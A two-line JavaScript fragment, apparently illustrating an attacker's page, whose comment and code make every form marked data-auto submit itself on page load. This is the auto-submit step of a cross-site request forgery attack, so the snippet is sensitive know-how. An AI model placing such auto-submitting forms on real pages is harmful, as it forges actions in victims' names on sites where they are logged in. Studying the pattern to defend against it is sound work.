// The attacker's form sends itself as soon as its page is there.
document.querySelectorAll("form[data-auto]").forEach((form) => form.submit());
